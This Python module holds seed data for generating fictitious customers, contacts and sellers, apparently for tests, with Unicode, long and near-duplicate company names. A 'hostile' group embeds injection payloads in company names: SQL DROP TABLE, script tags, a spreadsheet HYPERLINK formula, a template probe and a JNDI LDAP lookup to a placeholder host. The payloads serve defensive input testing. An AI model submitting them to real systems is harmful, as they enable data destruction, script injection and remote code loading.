"""Words that invented customers, people and sellers are made of. Data only, no decisions.

Domains end in `.example`, which never resolves.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Curated:
    """A customer with a name worth having: a script, a length or a payload that breaks careless code."""

    name: str
    label: str
    country: str
    city: str


LONG_NAME = (
    "The International Consortium for the Advancement of Sustainable, Inclusive and Interoperable Logistics, "
    "Warehousing, Cold-Chain Monitoring, Last-Mile Delivery and Reverse Logistics Standards of America, "
    "Incorporated in the State of Delaware, Successor to the Mid-Atlantic Forwarders' Benevolent Association"
)

EU_CURATED = (
    Curated("Žižkov Softworks s.r.o.", "zizkov-softworks", "Czechia", "Praha"),
    Curated("Ørsund Vindkraft A/S", "orsund-vindkraft", "Denmark", "København"),
    Curated("Łódź Robotyka sp. z o.o.", "lodz-robotyka", "Poland", "Łódź"),
    Curated("Müller & Söhne Maschinenbau GmbH", "mueller-soehne", "Germany", "Köln"),
    Curated("Weißenfels Logistik GmbH", "weissenfels-logistik", "Germany", "Weißenfels"),
    Curated("L'Étoile du Nord SARL", "etoile-du-nord", "France", "Dunkerque"),
    Curated("Manufacture d'Horlogerie Besançon S.A.", "horlogerie-besancon", "France", "Besançon"),
    Curated("Αθηναϊκή Πληροφορική Α.Ε.", "athinaiki", "Greece", "Αθήνα"),
    Curated("Ελληνικά Δίκτυα ΕΠΕ", "ellinika-diktya", "Greece", "Θεσσαλονίκη"),
    Curated("Íslandsbrú ehf.", "islandsbru", "Iceland", "Reykjavík"),
    Curated("Ñandú Diseño S.L.", "nandu-diseno", "Spain", "Logroño"),
    Curated("O'Brien's Bakery Systems Ltd", "obriens-bakery", "Ireland", "Dún Laoghaire"),
    Curated("Šiaulių Duomenys UAB", "siauliu-duomenys", "Lithuania", "Šiauliai"),
    Curated("Győri Gépgyár Zrt.", "gyori-gepgyar", "Hungary", "Győr"),
)

KUWAIT_CURATED = (
    Curated("شركة النور للتقنية", "alnoor-tech", "Kuwait", "الكويت"),
    Curated("مجموعة الخليج للبرمجيات ذ.م.م", "gulf-software", "Kuwait", "الكويت"),
    Curated("Salmiya Data W.L.L.", "salmiya-data", "Kuwait", "Salmiya"),
    Curated("Burgan Cloud Services K.S.C.", "burgan-cloud", "Kuwait", "Ahmadi"),
)

JP_CURATED = (
    Curated("株式会社さくら", "sakura", "Japan", "東京都"),
    Curated("有限会社富士精機", "fuji-seiki", "Japan", "静岡市"),
    Curated("みどりソフトウェア株式会社", "midori-software", "Japan", "横浜市"),
    Curated("ヤマト電算株式会社", "yamato-densan", "Japan", "奈良市"),
    Curated("合同会社ミライ", "mirai", "Japan", "福岡市"),
    Curated("Ōsaka Kikai K.K.", "osaka-kikai", "Japan", "Ōsaka"),
)

HOSTILE_CURATED = (
    Curated("Robert'); DROP TABLE customers;-- LLC", "robert-tables", "United States", "Reno"),
    Curated("<b>ACME</b> Corp.", "acme-bold", "United States", "Tucson"),
    Curated("<script>alert('invoice')</script> Inc.", "script-works", "United States", "Fresno"),
    Curated('=HYPERLINK("https://refund.example";"refund") LLC', "hyperlink", "United States", "Boise"),
    Curated("{{ 7 * 7 }} Templates & ${jndi:ldap://x.example} Co.", "templates", "United States", "Omaha"),
)

US_CURATED = (
    *HOSTILE_CURATED,
    Curated('Smith & Sons\' "Best" Bolts, Inc.', "smith-best-bolts", "United States", "Dayton"),
    Curated("Peña & Núñez Imports LLC", "pena-nunez", "United States", "Cañon City"),
    Curated("☕ Bean There Roasters LLC", "bean-there", "United States", "Seattle"),
    Curated(LONG_NAME, "logistics-standards", "United States", "Wilmington"),
)

# Two customers each: only legal form, case or white space tells the names apart, but they are not the same.
LOOKALIKES = (
    (
        Curated("Nordwind GmbH", "nordwind", "Germany", "Kiel"),
        Curated("Nordwind Ltd", "nordwind-trading", "Ireland", "Cork"),
    ),
    (
        Curated("Silverline Inc.", "silverline", "United States", "Denver"),
        Curated("SILVERLINE INC", "silverline-dental", "United States", "Tampa"),
    ),
    (
        Curated("Blue Harbor Systems LLC", "blueharbor", "United States", "Portland"),
        Curated("Blue  Harbor Systems LLC", "blueharbor-boats", "United States", "Annapolis"),
    ),
    (
        Curated("Kestrel Analytics GmbH", "kestrel-analytics", "Germany", "Jena"),
        Curated("kestrel analytics", "kestrel-birdwatch", "Netherlands", "Utrecht"),
    ),
)

FIRST_WORDS = [
    "Alder",
    "Amber",
    "Apex",
    "Beacon",
    "Birch",
    "Bright",
    "Cedar",
    "Cobalt",
    "Copper",
    "Crest",
    "Delta",
    "Ember",
    "Falcon",
    "Fern",
    "Granite",
    "Harbor",
    "Hazel",
    "Iron",
    "Juniper",
    "Larch",
    "Lumen",
    "Maple",
    "Meridian",
    "Northgate",
    "Orchard",
    "Pioneer",
    "Quartz",
    "Raven",
    "Ridge",
    "Sable",
    "Sierra",
    "Summit",
    "Tidal",
    "Umber",
    "Vector",
    "Willow",
]
SECOND_WORDS = [
    "Analytics",
    "Biotech",
    "Capital",
    "Components",
    "Dynamics",
    "Foods",
    "Freight",
    "Health",
    "Instruments",
    "Insurance",
    "Labs",
    "Media",
    "Mobility",
    "Networks",
    "Optics",
    "Power",
    "Retail",
    "Robotics",
    "Software",
    "Textiles",
]
JP_WORDS = ("Hokuto", "Asahi", "Kaede", "Minato", "Nagano", "Satsuki", "Tsubame", "Wakaba", "Yuzu", "Hikari")

US_FORMS = ("Inc.", "LLC", "Corp.", "Co.")
# Country, its VAT prefix, usual legal form, a city.
EU_COUNTRIES = (
    ("Germany", "DE", "GmbH", "Hamburg"),
    ("Germany", "DE", "AG", "München"),
    ("France", "FR", "SAS", "Lyon"),
    ("Netherlands", "NL", "B.V.", "Rotterdam"),
    ("Spain", "ES", "S.L.", "Valencia"),
    ("Italy", "IT", "S.r.l.", "Torino"),
    ("Ireland", "IE", "Ltd", "Galway"),
    ("Belgium", "BE", "NV", "Gent"),
)
US_CITIES = ("Austin", "Boston", "Chicago", "Columbus", "Madison", "Oakland", "Raleigh", "Salt Lake City")
VAT_PREFIXES = {
    "Czechia": "CZ",
    "Denmark": "DK",
    "Poland": "PL",
    "Germany": "DE",
    "France": "FR",
    "Greece": "EL",
    "Iceland": "IS",
    "Spain": "ES",
    "Ireland": "IE",
    "Lithuania": "LT",
    "Hungary": "HU",
    "Netherlands": "NL",
    "Italy": "IT",
    "Belgium": "BE",
    "Kuwait": "KW",
}
INDUSTRIES = (
    "COMPUTER_SOFTWARE",
    "LOGISTICS_AND_SUPPLY_CHAIN",
    "HOSPITAL_HEALTH_CARE",
    "RETAIL",
    "MACHINERY",
    "FINANCIAL_SERVICES",
    "FOOD_PRODUCTION",
    "TELECOMMUNICATIONS",
)

# Written form, and the ASCII form an e-mail address is made of.
FIRST_NAMES = (
    ("Amélie", "amelie"),
    ("Ana", "ana"),
    ("Björn", "bjorn"),
    ("Chidi", "chidi"),
    ("Dagný", "dagny"),
    ("Elena", "elena"),
    ("Fatima", "fatima"),
    ("Grace", "grace"),
    ("Haruka", "haruka"),
    ("Ivo", "ivo"),
    ("James", "james"),
    ("Kenji", "kenji"),
    ("Leila", "leila"),
    ("Miguel", "miguel"),
    ("Nadia", "nadia"),
    ("Oskar", "oskar"),
    ("Priya", "priya"),
    ("Renée", "renee"),
    ("Sofía", "sofia"),
    ("Zuzana", "zuzana"),
)
LAST_NAMES = (
    ("Andersson", "andersson"),
    ("Brânză", "branza"),
    ("Çelik", "celik"),
    ("D'Angelo", "dangelo"),
    ("Eriksen", "eriksen"),
    ("Fischer", "fischer"),
    ("García", "garcia"),
    ("Hansen", "hansen"),
    ("Ito", "ito"),
    ("Johnson", "johnson"),
    ("Kowalski", "kowalski"),
    ("Lefèvre", "lefevre"),
    ("Moreau", "moreau"),
    ("Novák", "novak"),
    ("O'Neill", "oneill"),
    ("Papadopoulou", "papadopoulou"),
    ("Quinn", "quinn"),
    ("Rossi", "rossi"),
    ("Sato", "sato"),
    ("Weiß", "weiss"),
)
JOB_TITLES = (
    "CFO",
    "Controller",
    "Head of IT",
    "Procurement Manager",
    "Accounts Payable",
    "Managing Director",
)
SELLERS = (
    ("Nora", "Lindqvist"),
    ("Tom", "Becker"),
    ("Aiko", "Tanaka"),
    ("Marta", "Zielińska"),
    ("Diego", "Álvarez"),
    ("Hannah", "Cole"),
    ("Samir", "Haddad"),
    ("Louise", "Petit"),
    ("Ben", "Achebe"),
)
